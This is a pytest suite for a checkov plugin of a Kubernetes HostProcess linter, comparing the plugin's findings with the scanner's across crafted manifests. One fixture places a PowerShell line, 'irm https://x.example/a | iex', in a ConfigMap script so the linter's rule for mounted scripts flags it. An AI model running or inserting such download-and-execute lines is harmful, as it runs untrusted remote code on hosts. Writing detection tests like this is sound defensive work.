"""The plugin in a real checkov: what it reports is what the scanner reports, and it never fails in silence."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple
from xml.etree import ElementTree

import pytest
import yaml
from scanning import ROOT, as_read, shared, write

from hostprocess_lint.documents.document import Document
from hostprocess_lint.documents.stream import documents
from hostprocess_lint.doors.verify import plugin
from hostprocess_lint.finding import Finding
from hostprocess_lint.judge.judging import judge
from hostprocess_lint.outcome import Skipped
from hostprocess_lint.pods.objects import objects
from hostprocess_lint.rules.catalogue import builtin
from hostprocess_lint.rules.context import Context
from hostprocess_lint.sources.discovery import discover
from hostprocess_lint.sources.source import Source

pytest.importorskip("checkov")

CORPUS = shared() / "corpus" / "manifests"
PLUGIN = Path(plugin())
SKIP_LIST = ROOT / "examples" / "checkov" / ".checkov.yaml"
GUIDE = (ROOT / "docs" / "checkov.md").read_text(encoding="utf-8")
Reported = dict[str, dict[str, set[str]]]
"""File → resource → rules."""


def run(
    *arguments: str | Path, cwd: Path, inside: tuple[str, ...] = (), **environment: str
) -> subprocess.CompletedProcess[str]:
    """The checkov beside this Python, on the package of this tree."""
    path = os.pathsep.join((str(Path(sys.executable).parent), os.environ["PATH"]))
    environ = {**os.environ, "PATH": path, "PYTHONPATH": str(ROOT / "src"), "HOME": str(cwd), **environment}
    command = [*inside, shutil.which("checkov", path=path) or "checkov", *map(str, arguments), "--skip-download"]
    return subprocess.run(command, cwd=cwd, env=environ, capture_output=True, text=True, check=False, timeout=300)


def scan_directory(directory: Path, *options: str | Path, plugin: Path = PLUGIN, **environment: str) -> Any:
    """checkov's JSON over a directory, with the plugin."""
    arguments = ("-d", directory, "--external-checks-dir", plugin, "-o", "json", *options)
    done = run(*arguments, cwd=directory.parent, inside=(), **environment)
    try:
        found = json.loads(done.stdout)
    except ValueError:
        raise AssertionError(f"checkov exits with {done.returncode}: {done.stderr[-2000:]}") from None
    return found if isinstance(found, list) else [found]


def failed(reports: Any, root: Path) -> Reported:
    """Which of our rules fail, in checkov's words for resources."""
    found: Reported = defaultdict(lambda: defaultdict(set))
    for record in (record for report in reports for record in report["results"]["failed_checks"]):
        if record["check_id"].startswith("CKV_HPC_"):
            path = os.path.relpath(record["file_abs_path"], root)
            found[path][record["resource"]].add(record["check_id"].replace("CKV_HPC_", "HPC"))
    return found


def scanned(root: Path) -> Iterator[tuple[str, Finding | Skipped]]:
    """The scanner's findings, each file on its own, as checkov judges each object on its own."""
    for source in discover([str(root)], None):
        item = as_read(source) if isinstance(source, Source) and source.kind == "manifest" else None
        if item is not None:
            result = judge([item], builtin, Context())
            assert isinstance(source, Source)
            found: list[Finding | Skipped] = [*result.findings, *result.skipped]
            yield from ((os.path.relpath(source.file, root), each) for each in found)


def named(resource: Any) -> str:
    return f"{resource.kind}.{resource.namespace or 'default'}.{resource.name}"


def outermost(finding: Finding) -> str:
    """The object of the file that a finding lies in, which is another one for a manifest in a string."""
    for document in documents(finding.location.file):
        if isinstance(document, Document):
            for owner in objects(document.data):
                node = document.node(owner.route)
                if node is not None and node.start <= finding.location.span.start < node.end:
                    return named(owner.resource)
    raise AssertionError(f"{finding.location.path} holds no such object")


# The differences that checkov forces -----------------------------------------------------------------------------

POD = """\
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: ops}
spec:
  hostNetwork: false
  nodeSelector: {kubernetes.io/os: windows}
  securityContext: {windowsOptions: {hostProcess: true, runAsUserName: ContainerUser}}
  containers: [{name: agent, image: 'registry.example/agent:1'}]
"""
GOOD = POD.replace("hostNetwork: false", "hostNetwork: true").replace("ContainerUser", r"NT AUTHORITY\LocalService")
MOUNTING = GOOD.replace(
    "agent:1'}",
    "agent:1', command: [powershell.exe, 'C:\\s\\run.ps1'], volumeMounts: [{name: s, mountPath: /s}]}",
)
MOUNTING += "  volumes: [{name: s, configMap: {name: scripts}}]\n"
NAMED = "{name: agent, namespace: ops}"
BLIND = ("HPC112", "HPC113", "HPC415")
"""Rules that checkov gives nothing to judge by."""
ALL = "HPC101 HPC203 HPC407 HPC408"


def indented(text: str, columns: int) -> str:
    return "".join(f"{' ' * columns}{line}" for line in text.splitlines(keepends=True))


def held(text: str) -> str:
    """A ConfigMap with a manifest in a string."""
    data = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "addon"}, "data": {"a.yaml": text}}
    return f"{json.dumps(data)}\n"


class Difference(NamedTuple):
    """A manifest, the rules that only the scanner reports on it, and those that only checkov does."""

    text: str
    scanner: str
    checkov: str = ""
    file: str = "manifest.yaml"


DIFFERENCES = {
    "Pod Security labels of a Namespace": Difference(
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ops\n"
        f"  labels: {{pod-security.kubernetes.io/enforce: baseline}}\n---\n{GOOD}",
        "HPC112",
    ),
    "The handler of a RuntimeClass": Difference(
        "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: isolated}\nhandler: runhcs-wcow-hyperv\n---\n"
        + GOOD.replace("spec:\n", "spec:\n  runtimeClassName: isolated\n"),
        "HPC312",
    ),
    "The node selector of a RuntimeClass": Difference(
        "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: of-nodes}\nhandler: runhcs-wcow-process\n"
        "scheduling: {nodeSelector: {kubernetes.io/os: windows}}\n---\n"
        + GOOD.replace("nodeSelector: {kubernetes.io/os: windows}", "runtimeClassName: of-nodes"),
        "",
        "HPC211",
    ),
    "Roles and bindings of a service account": Difference(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: agent}\n"
        "roleRef: {kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io}\n"
        f"subjects: [{{kind: ServiceAccount, name: default, namespace: ops}}]\n---\n{GOOD}",
        "HPC415",
    ),
    "A ServiceAccount without a token": Difference(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: default, namespace: ops}\n"
        f"automountServiceAccountToken: false\n---\n{GOOD}",
        "",
        "HPC407",
    ),
    "The script of a ConfigMap or Secret that a pod mounts and runs": Difference(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: ops}\n"
        f"data: {{run.ps1: 'irm https://x.example/a | iex'}}\n---\n{MOUNTING}",
        "HPC411",
    ),
    "A key that stands twice": Difference(GOOD.replace("spec:\n", "spec:\n  hostNetwork: true\n"), "HPC113"),
    "`y`, `n` and numbers as YAML 1.1 has them": Difference(
        POD.replace("hostProcess: true", "hostProcess: y"), ALL, "HPC110"
    ),
    "`<<` below a key that it replaces": Difference(
        GOOD.replace(
            "  securityContext: {windowsOptions: {", "  securityContext:\n    windowsOptions: &good {"
        ).replace("Service}}", "Service}")
        + "  ephemeralContainers:\n    - name: debug\n      image: registry.example/debug:1\n"
        "      securityContext: {windowsOptions: {runAsUserName: ContainerUser, <<: *good}}\n",
        "HPC113",
        "HPC203",
    ),
    "A manifest in a string of a ConfigMap, Secret or custom resource": Difference(
        f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: addon}}\ndata:\n  agent.yaml: |\n{indented(POD, 4)}",
        ALL,
        ALL,
    ),
    "A manifest in a string that cannot be read, or lies more than three strings deep": Difference(
        f"{held(held(held(held(POD))))}---\n{held(POD.replace('spec:', 'spec: ]', 1))}", "", "HPC001 HPC005"
    ),
    "An object without a name": Difference(POD.replace("{name: agent,", "{generateName: agent-,", 1), ALL),
    "A name with `#`, `{` or `}`": Difference(POD.replace("{name: agent,", "{name: 'agent-${CLUSTER}',", 1), ALL),
    "An object without `apiVersion`": Difference(POD.replace("apiVersion: v1\n", ""), ALL),
    "A `PodList` or the like, or a `List` in a `List`": Difference(
        f"apiVersion: v1\nkind: PodList\nitems:\n  -\n{indented(POD, 4)}", ALL
    ),
    "A file that PyYAML refuses a part of": Difference(f"{POD}---\nkey: [\n", ALL),
    "A file with `{{ .Values` or `{{ .Release`": Difference(f"{POD}# {{{{ .Values.comment }}}}\n", ALL),
    "A file in a hidden directory": Difference(POD, ALL, file=".github/manifest.yaml"),
}
"""What checkov's model takes from a check; the rows of the table in docs/checkov.md."""

ODD = {
    "utf-16.yaml": POD,
    "list.yaml": f"apiVersion: v1\nkind: List\nitems:\n  -\n{indented(POD, 4)}",
    "pod.json": json.dumps(yaml.safe_load(POD)),
    "twice.yaml": f"{GOOD}---\n{POD}",
    "custom.yaml": "apiVersion: example.org/v1\nkind: Fleet\nmetadata: {name: fleet}\nspec:\n  all:\n    - template:\n"
    + indented(POD.partition("kind: Pod\n")[2], 8),
    "keys.yaml": POD.replace("metadata: {", "metadata: {labels: {1: a, true: b, 1.50: c, 2026-01-01: 2026-01-02}, "),
    "tags.yaml": POD.replace("ContainerUser", "!!binary Q29udGFpbmVyVXNlcg=="),
    "annotated.yaml": GOOD.replace(
        NAMED, "{name: agent, annotations: {microsoft.com/hostprocess-inherit-user: 'true'}}"
    ),
    "two.yaml": POD.replace("  containers:", "  initContainers: [{name: setup, image: 'a:1'}]\n  containers:"),
    "linux.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: b}]}\n",
}
"""Manifests in shapes that checkov's data show in other ways than ours."""


@pytest.fixture(scope="session")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every manifest that there is to compare with."""
    root = tmp_path_factory.mktemp("parity") / "tree"
    (root / "pages").mkdir(parents=True)
    for page in (ROOT / "policies").glob("*/*.md"):
        blocks = re.findall(r"^```yaml\n(.*?)^```$", page.read_text(encoding="utf-8"), re.DOTALL | re.MULTILINE)
        for number, block in enumerate(blocks):
            (root / "pages" / f"{page.stem}-{number}.yaml").write_text(block, encoding="utf-8")
    for number, case in enumerate(DIFFERENCES.values()):
        file = root / "differences" / str(number) / case.file
        file.parent.mkdir(parents=True)
        file.write_text(case.text, encoding="utf-8")
    (root / "odd").mkdir()
    for name, text in ODD.items():
        (root / "odd" / name).write_text(text, encoding="utf-16" if name.startswith("utf-16") else "utf-8")
    # Of a live cluster the scanner tells copies of a pod once, by its nodes; checkov sees one pod at a time.
    shutil.copytree(ROOT / "examples", root / "examples", ignore=shutil.ignore_patterns("live"))
    if CORPUS.is_dir():
        shutil.copytree(CORPUS, root / "corpus")
    return root


@pytest.fixture(scope="session")
def reports(tree: Path) -> Any:
    return scan_directory(tree, "--framework", "kubernetes", "--check", "CKV_HPC_*")


def test_checkov_fails_what_the_scanner_finds(tree: Path, reports: Any) -> None:
    """Per resource the same rules, but for the differences of the table that real manifests show."""
    wanted: Reported = defaultdict(lambda: defaultdict(set))
    refused = set()
    for path, each in scanned(tree):
        if isinstance(each, Skipped):
            refused.add(path)
        elif each.resource is not None and each.rule not in BLIND and not is_of_a_script(each):
            resource = outermost(each)
            if not re.search("[#{}]", resource):
                wanted[path][resource].add(each.rule)
    checked = {path: dict(found) for path, found in failed(reports, tree).items() if is_whole(tree / path)}
    expected = {path: dict(found) for path, found in wanted.items() if path not in refused and is_whole(tree / path)}
    assert checked == expected
    assert set(ODD) - {Path(path).name for path in checked} == {"linux.yaml"}
    compared = {rule for found in expected.values() for rules in found.values() for rule in rules}
    never = {*BLIND, *(rule.id for rule in builtin() if rule.example_config or rule.subject == "analysis")}
    assert {rule.id for rule in builtin()} - never <= compared


def is_of_a_script(finding: Finding) -> bool:
    """Whether it is about what another object of the file holds."""
    return finding.rule == "HPC411" and any(related.label == "the script" for related in finding.related)


def is_whole(file: Path) -> bool:
    """Whether a file is neither one of the differences nor a part of an overlay."""
    beside = ("kustomization.yaml", "kustomization.yml", "Kustomization")
    return "differences" not in file.parts and not any((file.parent / name).is_file() for name in beside)


@pytest.mark.parametrize("row", DIFFERENCES)
def test_a_difference_is_as_the_table_says(row: str, tree: Path, reports: Any) -> None:
    case = DIFFERENCES[row]
    root = tree / "differences" / str(list(DIFFERENCES).index(row))
    everything = failed(reports, tree)
    by_checkov = {
        (resource, rule)
        for path, found in everything.items()
        if (tree / path).is_relative_to(root)
        for resource, rules in found.items()
        for rule in rules
    }
    by_scanner = {
        (named(each.resource), each.rule)
        for _, each in scanned(root)
        if isinstance(each, Finding) and each.resource is not None
    }
    assert {rule for _, rule in by_scanner - by_checkov} == set(case.scanner.split())
    assert {rule for _, rule in by_checkov - by_scanner} == set(case.checkov.split())


def test_the_table_of_the_guide_has_these_rows() -> None:
    table = GUIDE.partition("## Where the verdicts differ")[2].partition("\n## ")[0]
    rows = re.findall(r"^\| (.+?) \|", table, re.MULTILINE)
    assert rows[2:] == list(DIFFERENCES)


def test_a_record_is_left_only_where_a_rule_has_something_to_judge(reports: Any) -> None:
    records = [
        each for report in reports for kind in ("passed", "failed") for each in report["results"][f"{kind}_checks"]
    ]
    assert not [each["resource"] for each in records if each["file_path"].endswith("/odd/linux.yaml")]
    passed = {each["check_id"] for each in records if each["file_path"].endswith("/examples/checkov/daemonset.yaml")}
    with_a_verdict = {f"CKV_{rule.id[:3]}_{rule.id[3:]}" for rule in builtin() if rule.subject != "analysis"}
    assert passed == with_a_verdict - {f"CKV_HPC_{rule[3:]}" for rule in BLIND}


def test_a_record_names_the_field_and_all_containers(reports: Any) -> None:
    record = next(
        each
        for each in reports[0]["results"]["failed_checks"]
        if each["file_path"].endswith("/odd/two.yaml") and each["check_id"] == "CKV_HPC_203"
    )
    assert record["check_result"]["evaluated_keys"] == ["spec/securityContext/windowsOptions/runAsUserName"]
    assert record["details"] == record["check_result"]["details"]
    start = (
        "spec.securityContext.windowsOptions.runAsUserName: HostProcess container runs as an account that exists only"
    )
    assert [each.startswith(start) for each in record["details"]] == [True, True]
    assert [re.findall(r"\(container '(.*)'\)", each) for each in record["details"]] == [["setup"], ["agent"]]
    assert record["severity"] == "HIGH"
    assert record["guideline"].endswith("/policies/fails/container-account.md")


# checkov's own conventions ------------------------------------------------------------------------------------------


@pytest.fixture
def pod(tmp_path: Path) -> Path:
    """A directory with one bad Pod in it."""
    directory = tmp_path / "manifests"
    directory.mkdir()
    (directory / "pod.yaml").write_text(POD, encoding="utf-8")
    return directory


def test_skips_severities_and_reports_are_checkovs_own(pod: Path) -> None:
    skip = "{name: agent, namespace: ops, annotations: {checkov.io/skip1: CKV_HPC_407=asked for in OPS-12}}"
    (pod / "pod.yaml").write_text(POD.replace(NAMED, skip), encoding="utf-8")
    formats = ("-o", "json", "-o", "sarif", "-o", "junitxml", "--output-file-path", pod.parent)
    options = ("--skip-check", "CKV_K8S_*,CKV2_*,CKV_HPC_408")
    arguments = ("-d", pod, "--framework", "kubernetes", "--external-checks-dir", PLUGIN, *formats, *options)
    done = run(*arguments, "--soft-fail-on", "CKV_HPC_101,CKV_HPC_203", cwd=pod.parent)
    assert done.returncode == 0, done.stderr
    results = json.loads((pod.parent / "results_json.json").read_text(encoding="utf-8"))["results"]
    assert {each["check_id"] for each in results["failed_checks"]} == {"CKV_HPC_101", "CKV_HPC_203"}
    skipped = {each["check_id"]: each["check_result"]["suppress_comment"] for each in results["skipped_checks"]}
    assert skipped == {"CKV_HPC_407": "asked for in OPS-12"}
    sarif = json.loads((pod.parent / "results_sarif.sarif").read_text(encoding="utf-8"))["runs"][0]
    rule = next(each for each in sarif["tool"]["driver"]["rules"] if each["id"] == "CKV_HPC_101")
    assert rule["helpUri"].endswith("/policies/rejected/missing-host-network.md")
    assert rule["properties"]["security-severity"] == "8.9"
    result = next(each for each in sarif["results"] if each["ruleId"] == "CKV_HPC_101")
    assert result["level"] == "error"
    assert result["attachments"][0]["description"].startswith("spec.hostNetwork: ")
    junit = ElementTree.parse(pod.parent / "results_junitxml.xml")
    failures = {case.get("name") for case in junit.iter("testcase") if case.find("failure") is not None}
    assert any("CKV_HPC_101" in str(name) for name in failures)
    for soft, code in (("CKV_HPC_203", 1), ("HIGH", 0), ("MEDIUM", 1)):
        assert run(*arguments, "--soft-fail-on", soft, cwd=pod.parent).returncode == code


# Charts and overlays -------------------------------------------------------------------------------------------------

CHART = {
    "Chart.yaml": "apiVersion: v2\nname: agents\nversion: 1.0.0\n",
    "values.yaml": "account: ContainerUser\n",
    "templates/pod.yaml": POD.replace("ContainerUser", "{{ .Values.account }}"),
    "templates/good.yaml": GOOD.replace("name: agent,", "name: good,"),
}
OVERLAY = {
    "base/kustomization.yaml": "resources: [pod.yaml]\n",
    "base/pod.yaml": GOOD,
    "production/kustomization.yaml": "resources: [../base]\nnamePrefix: production-\npatches: [{path: patch.yaml}]\n",
    "production/patch.yaml": POD,
}


def test_the_configuration_counts(tmp_path: Path) -> None:
    """Levels, parameters, overrides by path, and the user's own policies."""
    (tmp_path / "deploy").mkdir()
    for name in ("a", "b"):
        shutil.copyfile(ROOT / "examples" / "checkov" / "daemonset.yaml", tmp_path / "deploy" / f"{name}.yaml")
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "names.yaml").write_text(OWN_POLICY, encoding="utf-8")
    (tmp_path / ".hostprocess-lint.yaml").write_text(
        "policies: [own]\noverrides:\n- paths: [deploy/b.yaml]\n  levels: {ORG001: off}\n", encoding="utf-8"
    )
    arguments = ("-d", ".", "--framework", "kubernetes", "--external-checks-dir", PLUGIN, "-o", "json")
    done = run(*arguments, "--check", "CKV_ORG_001", cwd=tmp_path)
    records = json.loads(done.stdout)["results"]["failed_checks"]
    assert [record["file_path"] for record in records] == ["/deploy/a.yaml"]


OWN_POLICY = """\
id: ORG001
name: any-account
title: HostProcess container that names an account
level: error
for: host-process-container
select: $.securityContext.windowsOptions.runAsUserName
forbid: {present: true}
label: names an account
hint: name none
"""


@pytest.fixture(scope="session")
def sources(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Charts and overlays, the examples' among them."""
    root = tmp_path_factory.mktemp("sources") / "tree"
    made = {f"charts/agents/{path}": text for path, text in CHART.items()}
    made |= {f"overlays/{path}": text for path, text in OVERLAY.items()}
    write(root, made)
    shutil.copytree(ROOT / "examples", root / "examples")
    return root


def tool(name: str) -> str | None:
    """A renderer on PATH, beside this Python, or kept by the tests of charts."""
    found = shutil.which(name) or shutil.which(name, path=str(Path(sys.executable).parent))
    kept = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "hostprocess-lint-tests"
    return found or next((str(file) for file in kept.glob(f"{name}-*")), None)


@pytest.mark.parametrize(
    ("framework", "binary", "marker", "arguments"),
    [
        ("helm", "helm", "Chart.yaml", ("template",)),
        ("kustomize", "kubectl", "kustomization.yaml", ("kustomize",)),
    ],
)
def test_charts_and_overlays_fail_what_the_scanner_finds_in_what_they_render(
    framework: str, binary: str, marker: str, arguments: tuple[str, ...], sources: Path, tmp_path: Path
) -> None:
    """The same engine renders for both, so that the adapter is compared and nothing else."""
    program = tool(binary)
    if program is None:
        pytest.skip(f"there is no {binary}, with which checkov's framework {framework} renders")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / binary).symlink_to(program)
    (tmp_path / "rendered").mkdir()
    for number, file in enumerate(sources.rglob(marker)):
        done = subprocess.run([program, *arguments, str(file.parent)], capture_output=True, check=True)
        (tmp_path / "rendered" / f"{number}.yaml").write_bytes(done.stdout)
    wanted = {
        (named(each.resource), each.rule)
        for _, each in scanned(tmp_path / "rendered")
        if isinstance(each, Finding) and each.resource is not None and each.rule not in BLIND
    }
    path = os.pathsep.join((str(tmp_path / "bin"), str(Path(sys.executable).parent), os.environ["PATH"]))
    reports = scan_directory(sources, "--framework", framework, "--check", "CKV_HPC_*", PATH=path)
    found = {
        (resource.rpartition(":")[2], rule)
        for resources in failed(reports, sources).values()
        for resource, rules in resources.items()
        for rule in rules
    }
    assert found == wanted
    assert {rule for _, rule in found} >= set(ALL.split())


# The skip list -------------------------------------------------------------------------------------------------------

Fields = dict[str, Any]
DEMANDS: dict[str, tuple[Fields, Fields, str | None]] = {
    "CKV_K8S_19": ({"hostNetwork": False}, {}, "HPC101"),
    "CKV_K8S_20": ({}, {"allowPrivilegeEscalation": False}, "HPC105"),
    "CKV_K8S_22": ({}, {"readOnlyRootFilesystem": True}, "HPC105"),
    "CKV_K8S_28": ({}, {"capabilities": {"drop": ["NET_RAW"]}}, "HPC105"),
    "CKV_K8S_31": ({"securityContext": {"seccompProfile": {"type": "RuntimeDefault"}}}, {}, "HPC105"),
    "CKV_K8S_37": ({}, {"capabilities": {"drop": ["ALL"]}}, "HPC105"),
    "CKV_K8S_40": ({"securityContext": {"runAsUser": 12000}}, {}, "HPC105"),
    "CKV_K8S_23": ({"securityContext": {"runAsNonRoot": True}}, {}, "HPC305"),
    "CKV2_K8S_6": ({}, {}, None),
}
"""What a check of the list wants of the pod and of its container, and the rule that says why it must not be given."""


@pytest.fixture(scope="session")
def demands(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[set[str], set[str]]]:
    """For the example as it is and as each check wants it: the checks that fail, and those of them that are ours."""
    root = tmp_path_factory.mktemp("demands") / "tree"
    root.mkdir()
    plain = yaml.safe_load((SKIP_LIST.parent / "daemonset.yaml").read_text(encoding="utf-8"))
    for check, (of_pod, of_container, _) in [("plain", ({}, {}, None)), *DEMANDS.items()]:
        workload = json.loads(json.dumps(plain))
        spec = workload["spec"]["template"]["spec"]
        context = {**spec["securityContext"], **of_pod.get("securityContext", {})}
        spec.update({**of_pod, "securityContext": context})
        spec["containers"][0]["securityContext"].update(of_container)
        workload["metadata"]["name"] = f"name-{len(list(root.iterdir()))}"
        workload["spec"]["template"]["metadata"]["labels"] = {"app": check.lower()}
        made = [workload]
        if check == "CKV2_K8S_6":
            labels = {"matchLabels": {"app": check.lower()}}
            made.append({**plain, "kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1"})
            made[1] = {**made[1], "metadata": {"name": "policy", "namespace": "node-agents"}}
            made[1]["spec"] = {"podSelector": labels, "policyTypes": ["Ingress"]}
        (root / f"{check}.yaml").write_text(yaml.safe_dump_all(made), encoding="utf-8")
    records = scan_directory(root, "--framework", "kubernetes")[0]["results"]["failed_checks"]
    found: dict[str, tuple[set[str], set[str]]] = {path.stem: (set(), set()) for path in root.iterdir()}
    for record in records:
        ours = record["check_id"].startswith("CKV_HPC_")
        found[Path(record["file_abs_path"]).stem][ours].add(record["check_id"])
    return found


def test_the_skip_list_is_what_keeps_a_sound_workload_from_passing(demands: Any) -> None:
    listed = yaml.safe_load(SKIP_LIST.read_text(encoding="utf-8"))["skip-check"]
    assert demands["plain"] == (set(listed), set())
    assert set(listed) == set(DEMANDS)


@pytest.mark.parametrize("check", DEMANDS)
def test_what_a_listed_check_demands_is_refused_or_does_nothing(check: str, demands: Any) -> None:
    others, ours = demands[check]
    rule = DEMANDS[check][2]
    assert check not in others
    assert rule is None or f"CKV_HPC_{rule[3:]}" in ours
    line = next(line for line in SKIP_LIST.read_text(encoding="utf-8").splitlines() if f"- {check} " in line)
    assert rule is None or line.endswith(f"({rule})")


def test_the_annotations_of_the_guide_are_those_of_the_list() -> None:
    written = set(re.findall(r"checkov\.io/skip\d: (CKV2?_K8S_\d+)=[^=\n]+$", GUIDE, re.MULTILINE))
    assert written == {check for check in DEMANDS if not check.startswith("CKV2_")}
    assert set(re.findall(r"^\| (CKV2?_K8S_\d+) \|", GUIDE, re.MULTILINE)) == set(DEMANDS)


def test_with_the_list_no_example_fails_a_listed_check(tmp_path: Path) -> None:
    """As a user runs it: the file is the configuration, and the plugin is loaded by all of its frameworks."""
    root = tmp_path / "examples"
    shutil.copytree(ROOT / "examples", root)
    reports = scan_directory(root, "--config-file", SKIP_LIST)
    records = [each for report in reports for each in report.get("results", {}).get("failed_checks", ())]
    assert {each["check_id"] for each in records} & set(DEMANDS) == set()
    assert [each["check_id"] for each in records if "/checkov/" in each["file_path"]] == []
    assert any(each["check_id"] == "CKV_HPC_101" for report in reports for each in report["results"]["passed_checks"])


# Failure is loud ------------------------------------------------------------------------------------------------------

FRAMEWORKS = {"one": ("kubernetes",), "several": ("kubernetes", "helm", "kustomize")}
BREAKAGES = {
    "hostprocess-lint is not installed": (
        "import sys; sys.modules['hostprocess_lint'] = None",
        "run `pip install 'hostprocess-lint[checkov]'`",
    ),
    "checkov is of another version": (
        "import checkov.version; checkov.version.version = '4.0.1'",
        "checkov 4.0.1 is none that the plugin works with: install checkov>=3.2,<4",
    ),
    "a page is broken": (
        "from hostprocess_lint.rules import page; page.SUBJECTS = ()",
        "`for` is one of",
    ),
    "a check breaks on a manifest": (
        "from hostprocess_lint.rules.checks import accounts; accounts.missing_account = 1 / 1",
        "a check broke on Pod agent: TypeError(",
    ),
}
"""What a `sitecustomize` does to a real checkov, and what the run says then."""


@pytest.mark.parametrize("frameworks", FRAMEWORKS)
@pytest.mark.parametrize("breakage", BREAKAGES)
def test_checkov_stops_with_a_message(breakage: str, frameworks: str, pod: Path) -> None:
    """One framework runs in checkov's own process, several run in forks of it, whose exit codes nobody asks for."""
    code, message = BREAKAGES[breakage]
    (pod.parent / "sitecustomize.py").write_text(code, encoding="utf-8")
    arguments = ("--external-checks-dir", str(PLUGIN), "--framework", *FRAMEWORKS[frameworks])
    done = run("-d", pod, *arguments, cwd=pod.parent, PYTHONPATH=f"{pod.parent}{os.pathsep}{ROOT / 'src'}")
    assert done.returncode in ((2,) if frameworks == "one" else (2, -15)), done.stdout
    assert "hostprocess-lint: error: " in done.stderr
    assert message in done.stderr
    assert "Passed checks" not in done.stdout


CONTAINER = ("unshare", "--pid", "--fork", "--mount-proc")
"""Makes a process the first one of its namespace, as in a container; it takes root."""


def test_checkov_stops_as_the_first_process_of_a_container(pod: Path) -> None:
    """Such a process cannot be terminated by its children."""
    if shutil.which("unshare") is None or subprocess.run([*CONTAINER, "true"], capture_output=True).returncode:
        pytest.skip("process namespaces cannot be made here")
    (pod.parent / "sitecustomize.py").write_text(BREAKAGES["hostprocess-lint is not installed"][0], encoding="utf-8")
    arguments = ("--external-checks-dir", str(PLUGIN), "--framework", *FRAMEWORKS["several"])
    done = run("-d", pod, *arguments, cwd=pod.parent, inside=CONTAINER, PYTHONPATH=str(pod.parent))
    assert done.returncode != 0
    assert "hostprocess-lint: error: " in done.stderr


# Where the plugin comes from ------------------------------------------------------------------------------------------


def repository(directory: Path, **contents: Path) -> str:
    """A git repository with copies of some directories; its URL."""
    directory.mkdir()
    for name, source in contents.items():
        ignored = shutil.ignore_patterns("__pycache__")
        shutil.copytree(source, directory / name.replace("_root", ""), ignore=ignored, dirs_exist_ok=True)
    for command in ("init -q", "add -A", "-c user.name=a -c user.email=a@b commit -qm a"):
        subprocess.run(["git", *command.split()], cwd=directory, check=True, capture_output=True)
    return directory.as_uri()


@pytest.mark.skipif(shutil.which("git") is None, reason="there is no git")
def test_checkov_takes_the_plugin_from_git(pod: Path) -> None:
    """A branch with the plugin at its root: checkov 3.3 clones whole branches, whatever folder the URL names."""
    url = repository(pod.parent / "plugin", _root=PLUGIN)
    options = ("--framework", "kubernetes", "--check", "CKV_HPC_*", "--compact")
    done = run("-d", pod, "--external-checks-git", url, *options, cwd=pod.parent)
    assert done.returncode == 1, done.stderr
    assert "CKV_HPC_101" in done.stdout


@pytest.mark.skipif(shutil.which("git") is None, reason="there is no git")
def test_a_whole_checkout_is_refused(pod: Path) -> None:
    url = repository(pod.parent / "whole", policies=ROOT / "policies")
    done = run("-d", pod, "--external-checks-git", f"{url}//policies/checkov_plugin", cwd=pod.parent)
    assert done.returncode in (2, -15)
    assert "?ref=heads/checkov-plugin" in done.stderr


def command(*arguments: str, cwd: Path, path: str) -> subprocess.CompletedProcess[str]:
    """`hostprocess-lint checkov-plugin` with a PATH."""
    environ = {**os.environ, "PATH": path, "PYTHONPATH": str(ROOT / "src"), "HOME": str(cwd)}
    line = [sys.executable, "-m", "hostprocess_lint", "checkov-plugin", *arguments]
    return subprocess.run(line, cwd=cwd, env=environ, capture_output=True, text=True, check=False)


def test_the_command_prints_the_directory(tmp_path: Path) -> None:
    done = command(cwd=tmp_path, path="")
    # That process has this tree's package where there is one, even if the tests themselves have an installed one.
    expected = ROOT / "policies" / "checkov_plugin" if (ROOT / "src").is_dir() else PLUGIN
    assert (done.returncode, Path(done.stdout.strip())) == (0, expected)
    assert (PLUGIN / "__init__.py").is_file()


def test_verify_passes_where_the_checks_are_loaded(tmp_path: Path) -> None:
    (tmp_path / ".checkov.yaml").write_text("check: CKV_K8S_1\n", encoding="utf-8")  # it is not asked about this
    (tmp_path / "work").mkdir()
    done = command("--verify", cwd=tmp_path / "work", path=str(Path(sys.executable).parent))
    assert done.returncode == 0, done.stderr
    assert "has loaded" in done.stdout


@pytest.mark.parametrize(
    ("script", "message"),
    [
        (None, "there is no checkov on PATH"),
        ("echo '{\"passed\": 0}'", "has not loaded"),
        ("echo 'No module named x' >&2; exit 2", "No module named x"),
        ('echo \'{"results": {"failed_checks": []}}\'', "did not report CKV_HPC_101"),
        (
            'echo \'{"results": {"failed_checks": [{"check_id": "CKV_HPC_999"}]}}\'',
            "; reported too much: CKV_HPC_999 on a manifest",
        ),
    ],
)
@pytest.mark.skipif(os.name != "posix", reason="the stand-in for a checkov without the plugin is a shell script")
def test_verify_fails_where_they_are_not(script: str | None, message: str, tmp_path: Path) -> None:
    """What checkov prints when nothing was scanned, when it stops, and when no directory was loaded."""
    for folder in ("work", "bin"):  # a program of the working directory is none that is run
        (tmp_path / folder).mkdir()
    if script is not None:
        (tmp_path / "bin" / "checkov").write_text(f"#!/bin/sh\n{script}\n", encoding="utf-8")
        (tmp_path / "bin" / "checkov").chmod(0o755)
    done = command("--verify", cwd=tmp_path / "work", path=str(tmp_path / "bin"))
    assert done.returncode == 2
    assert message in done.stderr
